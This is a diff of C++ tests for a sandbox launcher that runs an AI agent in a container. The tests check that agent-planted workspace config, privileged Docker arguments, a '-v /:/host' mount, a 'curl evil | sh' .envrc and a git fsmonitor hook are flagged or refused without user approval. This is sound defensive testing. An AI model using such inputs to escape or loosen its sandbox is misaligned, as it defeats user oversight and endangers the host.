@@ -3,12 +3,14 @@
 #include <doctest/doctest.h>
 
 #include <algorithm>
+#include <cstdlib>
 
 #include <signal.h>
 
 #include <sstream>
 
 #include "launcher/host/docker_argv.hpp"
+#include "launcher/host/file_identity.hpp"
 #include "launcher/host/image.hpp"
 #include "launcher/host/session.hpp"
 #include "test_util.hpp"
@@ -37,6 +39,7 @@ struct SessionFixture {
     host.home = t.dir("home");
     host.cagent_home = t / "home/.cagent";
     host.workspace = t.dir("ws");
+    host.workspace_identity = file_identity(host.workspace);  // as main computes it
     host.executable = t / "bin/cagent";
     t.file("ws/.env", "SECRET=1");
     t.file("ws/src/main.c");
@@ -169,7 +172,7 @@ TEST_CASE("session: sysbox, CA bundle and resolvers reach argv and policy") {
     bundle = read_file(f.host_side("/etc/cagent/extra-ca.pem"));
     policy = read_file(f.host_side("/etc/cagent/policy.toml"));
   };
-  CHECK(f.run({"--no-update", "--ca-cert", ca.string(), "--", "true"}) == 0);
+  CHECK(f.run({"--no-update", "--accept-workspace-config", "--ca-cert", ca.string(), "--", "true"}) == 0);
   const auto& argv = f.runner.foreground_argv;
   CHECK(contains(argv, "sysbox-runc"));
   CHECK(contains(argv, "--ca-bundle"));
@@ -182,7 +185,7 @@ TEST_CASE("session: sysbox, CA bundle and resolvers reach argv and policy") {
 TEST_CASE("session: workspace extra_args are ignored with a hint until the workspace is trusted") {
   SessionFixture f;
   write_file(f.host.workspace / ".cagent.yaml", "extra_args: ['--privileged']\n", 0644);
-  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  CHECK(f.run({"--no-update", "--accept-workspace-config", "--", "true"}) == 0);
   CHECK_FALSE(contains(f.runner.foreground_argv, "--privileged"));
   CHECK(f.err.str().find("not trusted") != std::string::npos);
   CHECK(f.err.str().find((f.host.cagent_home / "trusted").string()) != std::string::npos);
@@ -264,7 +267,7 @@ TEST_CASE("session: config errors surface with their position") {
   SessionFixture f;
   write_file(f.host.workspace / ".cagent.yaml", "domains: [ok.example]\nbogus: 1\n", 0644);
   try {
-    f.run({"--no-update", "--", "true"});
+    f.run({"--no-update", "--accept-workspace-config", "--", "true"});
     FAIL("no error");
   } catch (const ConfigError& e) {
     CHECK(std::string(e.what()) == (f.host.workspace / ".cagent.yaml").string() +
@@ -317,16 +320,18 @@ TEST_CASE("session: a .cagent.yaml planted during a session is not used unseen")
   CHECK(f.run({"--no-update", "--", "true"}) == 0);
   CHECK(f.err.str().find("created or changed " + ws_config.string()) != std::string::npos);
 
-  // Session 2, no terminal: ignored with a one-line warning naming the file
-  // and how to accept it.
+  // Session 2, no terminal: ignored with one line naming the file and how
+  // to accept it.
   f.err.str("");
   f.runner.during_foreground = read_policy;
   CHECK(f.run({"--no-update", "--", "true"}) == 0);
   CHECK(policy.find("evil.example") == std::string::npos);
-  CHECK(f.err.str().find("ignoring " + ws_config.string()) != std::string::npos);
+  const std::string warning = "cagent: ignoring " + ws_config.string() + ": ";
+  CHECK(f.err.str().find(warning) != std::string::npos);
   CHECK(f.err.str().find("--accept-workspace-config") != std::string::npos);
 
-  // Session 3, a terminal, the user says no: still not used, asked again later.
+  // Session 3, a terminal, the user says no: shown with what it adds, not
+  // used, asked again later.
   f.host.stdin_tty = true;
   f.err.str("");
   f.in.str("n\n");
@@ -334,7 +339,9 @@ TEST_CASE("session: a .cagent.yaml planted during a session is not used unseen")
   CHECK(f.run({"--no-update", "--", "true"}) == 0);
   CHECK(policy.find("evil.example") == std::string::npos);
   CHECK(f.err.str().find("  | domains: [evil.example]") != std::string::npos);
+  CHECK(f.err.str().find("  - domains the cage may reach: evil.example") != std::string::npos);
   CHECK(f.err.str().find("[y/N]") != std::string::npos);
+  CHECK(f.err.str().find("not using " + ws_config.string() + " in this session") != std::string::npos);
 
   // Session 4: yes. Used, and remembered: no question next time.
   f.err.str("");
@@ -349,6 +356,9 @@ TEST_CASE("session: a .cagent.yaml planted during a session is not used unseen")
   CHECK(f.run({"--no-update", "--", "true"}) == 0);
   CHECK(policy.find("evil.example") != std::string::npos);
   CHECK(f.err.str().find(".cagent.yaml") == std::string::npos);
+  // The approval lives under CAGENT_HOME, never in the workspace.
+  CHECK(fs::is_directory(f.host.cagent_home / "approvals"));
+  CHECK(std::distance(fs::directory_iterator(f.host.workspace), fs::directory_iterator()) == 3);  // .env src .cagent.yaml
 }
 
 TEST_CASE("session: the file shown for review carries no raw control characters") {
@@ -370,7 +380,25 @@ TEST_CASE("session: the file shown for review carries no raw control characters"
   CHECK(err.find("\\x1b]0;pwned") != std::string::npos);
 }
 
-TEST_CASE("session: --accept-workspace-config accepts; the user's edits between sessions need nothing") {
+TEST_CASE("session: the question says which trust-gated keys the file sets and whether they apply") {
+  SessionFixture f;
+  write_file(f.host.workspace / ".cagent.yaml", "extra_args: ['-v', '/:/host']\nimage_packages: [sl]\n", 0644);
+  f.host.stdin_tty = true;
+  f.in.str("n\n");
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  CHECK(f.err.str().find("  - extra_args: -v /:/host (ignored: this workspace is not trusted)") != std::string::npos);
+  CHECK(f.err.str().find("  - image_packages: sl (ignored: this workspace is not trusted)") != std::string::npos);
+  write_file(f.host.cagent_home / "trusted", f.host.workspace.string() + "\n", 0644);
+  f.err.str("");
+  f.in.clear();
+  f.in.str("n\n");
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  CHECK(f.err.str().find("  - extra_args: -v /:/host (applies: this workspace is in ~/.cagent/trusted)") !=
+        std::string::npos);
+  CHECK_FALSE(contains(f.runner.foreground_argv, "/:/host"));  // the answer was no
+}
+
+TEST_CASE("session: --accept-workspace-config approves the exact content; a user edit asks again") {
   SessionFixture f;
   const fs::path ws_config = f.host.workspace / ".cagent.yaml";
   std::string policy;
@@ -379,15 +407,66 @@ TEST_CASE("session: --accept-workspace-config accepts; the user's edits between 
   f.runner.during_foreground = [&] { policy = read_file(f.host_side("/etc/cagent/policy.toml")); };
   CHECK(f.run({"--no-update", "--accept-workspace-config", "--", "true"}) == 0);
   CHECK(policy.find("planted.example") != std::string::npos);
-  // The user edits it while no session runs: used with no question.
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  CHECK(policy.find("planted.example") != std::string::npos);
+  // The user edits it: other bytes, not approved yet (the user's word is
+  // the only way to tell their edit from anyone else's).
   write_file(ws_config, "domains: [users-own.example]\n", 0644);
   f.err.str("");
   CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  CHECK(policy.find("users-own.example") == std::string::npos);
+  CHECK(f.err.str().find("ignoring " + ws_config.string() + ": it changed since you approved it") !=
+        std::string::npos);
+  CHECK(f.run({"--no-update", "--accept-workspace-config", "--", "true"}) == 0);
   CHECK(policy.find("users-own.example") != std::string::npos);
+  // Switching back to the earlier approved content needs no new approval.
+  write_file(ws_config, "domains: [planted.example]\n", 0644);
+  f.err.str("");
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  CHECK(policy.find("planted.example") != std::string::npos);
   CHECK(f.err.str().find("ignoring") == std::string::npos);
 }
 
-TEST_CASE("session: a workspace .cagent.yaml that came with it works on first sight; .envrc changes are named") {
+TEST_CASE("session: a config approved in one directory is not approved after mv, cp -a or rm + mkdir") {
+  SessionFixture f;
+  const fs::path original = f.host.workspace;
+  std::string policy;
+  f.runner.during_foreground = [&] { policy = read_file(f.host_side("/etc/cagent/policy.toml")); };
+  write_file(original / ".cagent.yaml", "domains: [approved.example]\n", 0644);
+  CHECK(f.run({"--no-update", "--accept-workspace-config", "--", "true"}) == 0);
+  CHECK(policy.find("approved.example") != std::string::npos);
+  // The positive control: the same directory keeps its approval.
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  CHECK(policy.find("approved.example") != std::string::npos);
+
+  const auto run_in = [&](const fs::path& ws) {
+    f.host.workspace = ws;
+    f.host.workspace_identity = file_identity(ws);
+    f.err.str("");
+    policy.clear();
+    CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  };
+  // cp -a: the copy is another directory (new inode), whatever it holds.
+  const std::string cp = "cp -a '" + original.string() + "' '" + (f.t / "copy").string() + "'";
+  REQUIRE(std::system(cp.c_str()) == 0);
+  run_in(f.t / "copy");
+  CHECK(policy.find("approved.example") == std::string::npos);
+  CHECK(f.err.str().find("not approved it in this directory") != std::string::npos);
+  // mv: the same directory at another path; approved for the old path only.
+  fs::rename(original, f.t / "renamed");
+  run_in(f.t / "renamed");
+  CHECK(policy.find("approved.example") == std::string::npos);
+  CHECK(f.err.str().find("--accept-workspace-config") != std::string::npos);
+  // rm -rf and a new directory at the original path, same content.
+  fs::remove_all(f.t / "renamed");
+  fs::create_directory(original);
+  write_file(original / ".cagent.yaml", "domains: [approved.example]\n", 0644);
+  run_in(original);
+  CHECK(policy.find("approved.example") == std::string::npos);
+  CHECK(f.err.str().find("ignoring " + (original / ".cagent.yaml").string()) != std::string::npos);
+}
+
+TEST_CASE("session: a workspace .cagent.yaml that came with it is not used unapproved; .envrc changes are named") {
   SessionFixture f;
   write_file(f.host.workspace / ".cagent.yaml", "domains: [repo.example]\n", 0644);
   std::string policy;
@@ -396,43 +475,94 @@ TEST_CASE("session: a workspace .cagent.yaml that came with it works on first si
     write_file(f.host.workspace / ".envrc", "curl evil | sh\n", 0644);
   };
   CHECK(f.run({"--no-update", "--", "true"}) == 0);
-  CHECK(policy.find("repo.example") != std::string::npos);
+  CHECK(policy.find("repo.example") == std::string::npos);
+  CHECK(f.err.str().find("ignoring " + (f.host.workspace / ".cagent.yaml").string()) != std::string::npos);
   CHECK(f.err.str().find("changed " + (f.host.workspace / ".envrc").string()) != std::string::npos);
   CHECK(f.err.str().find("direnv") != std::string::npos);
 }
 
-TEST_CASE("session: a sub-workspace's .cagent.yaml written after sessions of an enclosing one is asked about") {
+TEST_CASE("session: without a directory identity nothing is remembered and the home goes with the container") {
   SessionFixture f;
-  const fs::path sub = f.host.workspace / "sub";
-  fs::create_directories(sub);
-  // A session of the enclosing workspace; its agent plants sub/.cagent.yaml.
-  f.runner.during_foreground = [&] { write_file(sub / ".cagent.yaml", "domains: [nested.example]\n", 0644); };
-  CHECK(f.run({"--no-update", "--", "true"}) == 0);
-  // The user later runs cagent in sub/: first sight, but not the user's.
+  f.host.workspace_identity.reset();
+  write_file(f.host.workspace / ".cagent.yaml", "domains: [w.example]\n", 0644);
   std::string policy;
   f.runner.during_foreground = [&] { policy = read_file(f.host_side("/etc/cagent/policy.toml")); };
-  f.host.workspace = sub;
-  f.err.str("");
+  CHECK(f.run({"--no-update", "--accept-workspace-config", "--", "true"}) == 0);
+  CHECK(policy.find("w.example") != std::string::npos);
+  CHECK(f.err.str().find("in this session only") != std::string::npos);
+  CHECK(f.err.str().find("the agent's home starts empty") != std::string::npos);
+  CHECK(contains(f.runner.foreground_argv,
+                 "type=volume,target=/home/agent,volume-label=cagent.home=cagent-home,volume-label=cagent.workspace=" +
+                     f.host.workspace.string()));
   CHECK(f.run({"--no-update", "--", "true"}) == 0);
-  CHECK(policy.find("nested.example") == std::string::npos);
-  CHECK(f.err.str().find("enclosing workspace") != std::string::npos);
+  CHECK(policy.find("w.example") == std::string::npos);
+  CHECK_FALSE(fs::exists(f.host.cagent_home / "approvals"));
 }
 
 TEST_CASE("session: --dry-run and --print-config remember nothing") {
   SessionFixture f;
   write_file(f.host.workspace / ".cagent.yaml", "domains: [a.example]\n", 0644);
-  CHECK(f.run({"--dry-run", "--", "true"}) == 0);
+  CHECK(f.run({"--dry-run", "--accept-workspace-config", "--", "true"}) == 0);
+  CHECK(f.run({"--print-config", "--accept-workspace-config"}) == 0);
+  CHECK(f.out.str().find("a.example  # " + (f.host.workspace / ".cagent.yaml").string()) != std::string::npos);
+  CHECK_FALSE(fs::exists(f.host.cagent_home));
+  f.out.str("");
   CHECK(f.run({"--print-config"}) == 0);
-  CHECK_FALSE(fs::exists(f.host.cagent_home / "workspaces"));
+  CHECK(f.out.str().find("a.example") == std::string::npos);
 }
 
-TEST_CASE("session: the home volume is the workspace's own; CAGENT_HOME_VOLUME's prefix is used") {
+TEST_CASE("session: the home volume is the workspace directory's own; CAGENT_HOME_VOLUME's prefix is used") {
   SessionFixture f;
   f.host.home_volume_prefix = "cagent-test-home";
+  const auto home_of = [&] {
+    f.host.workspace_identity = file_identity(f.host.workspace);
+    CHECK(f.run({"--no-update", "--", "true"}) == 0);
+    for (const std::string& a : f.runner.foreground_argv) {
+      if (a.rfind("type=volume,", 0) == 0) return a;
+    }
+    return std::string();
+  };
+  const std::string first = home_of();
+  REQUIRE(f.host.workspace_identity);
+  CHECK(first == "type=volume,source=" + home_volume_name("cagent-test-home", *f.host.workspace_identity) +
+                     ",target=/home/agent,volume-label=cagent.home=cagent-test-home,volume-label=cagent.workspace=" +
+                     f.host.workspace.string());
+  CHECK(home_of() == first);  // the same directory keeps its home
+  // rm -rf and a new directory at the same path: a fresh home.
+  fs::remove_all(f.host.workspace);
+  fs::create_directory(f.host.workspace);
+  const std::string again = home_of();
+  CHECK(again.find("source=cagent-test-home-") != std::string::npos);
+  CHECK(again != first);
+}
+
+TEST_CASE("session: the end names the git repositories the session created, and nothing else") {
+  SessionFixture f;
+  f.t.file("ws/.git/HEAD", "ref: refs/heads/main\n");
+  f.t.dir("ws/.git/objects");
+  f.t.dir("ws/.git/refs");
+  // A session that creates none: no such line (the workspace's own .git is old).
   CHECK(f.run({"--no-update", "--", "true"}) == 0);
-  const std::string want = "type=volume,source=" + home_volume_name("cagent-test-home", f.host.workspace) +
-                           ",target=/home/agent,volume-label=cagent.home=cagent-test-home";
-  CHECK(contains(f.runner.foreground_argv, want));
+  CHECK(f.err.str().find("git repositor") == std::string::npos);
+  // git init vendor/lib and core.fsmonitor, during the session.
+  f.runner.during_foreground = [&] {
+    f.t.file("ws/vendor/lib/.git/HEAD", "ref: refs/heads/main\n");
+    f.t.file("ws/vendor/lib/.git/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n");
+    f.t.dir("ws/vendor/lib/.git/objects");
+    f.t.dir("ws/vendor/lib/.git/refs");
+  };
+  f.err.str("");
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  const std::string err = f.err.str();
+  CHECK(err.find("cagent: this session created a git repository in the workspace") != std::string::npos);
+  CHECK(err.find("core.fsmonitor") != std::string::npos);
+  CHECK(err.find("cagent:   vendor/lib/.git (a new .git directory)") != std::string::npos);
+  CHECK(err.find("cagent:   .git ") == std::string::npos);
+  // The next session started with it: not new any more.
+  f.runner.during_foreground = nullptr;
+  f.err.str("");
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  CHECK(f.err.str().find("git repositor") == std::string::npos);
 }
 
 // The stages one by one (run_cagent chains them).
@@ -440,9 +570,8 @@ TEST_CASE("session: the home volume is the workspace's own; CAGENT_HOME_VOLUME's
 TEST_CASE("stages: prepare reads only and describes the session") {
   SessionFixture f;
   f.host.build_args = {{"BASE", "base:x"}, {"AGENT_NPM_PACKAGES", ""}};
-  WorkspaceRecords records(f.host.cagent_home);
   const CliOptions cli = parse_cli({"--no-global-config", "--no-update", "--", "make"});
-  const MergedConfig merged = resolve_config(cli, f.host, f.runner, SessionIo{f.out, f.err, f.in}, records);
+  const MergedConfig merged = resolve_config(cli, f.host, SessionIo{f.out, f.err, f.in});
   const PreparedSession p = prepare_session(cli, f.host, merged, SessionIo{f.out, f.err, f.in});
   CHECK(p.id.size() == 12);
   CHECK(p.run.container_name == "cagent-" + p.id);
@@ -463,10 +592,9 @@ TEST_CASE("stages: prepare reads only and describes the session") {
 TEST_CASE("stages: start asks the engine, builds the image and creates the log dir") {
   SessionFixture f;
   f.runtimes = "{\"sysbox-runc\":{}}";
-  WorkspaceRecords records(f.host.cagent_home);
   const CliOptions cli = parse_cli({"--no-global-config", "--no-update"});
   const SessionIo io{f.out, f.err, f.in};
-  PreparedSession p = prepare_session(cli, f.host, resolve_config(cli, f.host, f.runner, io, records), io);
+  PreparedSession p = prepare_session(cli, f.host, resolve_config(cli, f.host, io), io);
   start_session(p, f.host, f.runner, io);
   CHECK(p.run.sysbox);
   CHECK(f.runner.called_with_prefix({"docker", "build"}));
@@ -494,10 +622,9 @@ TEST_CASE("stages: summarize maps the outcome to the exit status") {
 
 TEST_CASE("stages: dry-run prints the build and run commands of the prepared session") {
   SessionFixture f;
-  WorkspaceRecords records(f.host.cagent_home);
   const CliOptions cli = parse_cli({"--dry-run", "--no-global-config", "--", "true"});
   const SessionIo io{f.out, f.err, f.in};
-  PreparedSession p = prepare_session(cli, f.host, resolve_config(cli, f.host, f.runner, io, records), io);
+  PreparedSession p = prepare_session(cli, f.host, resolve_config(cli, f.host, io), io);
   std::ostringstream out;
   print_dry_run(p, out);
   CHECK(out.str().find("docker build -f ") != std::string::npos);
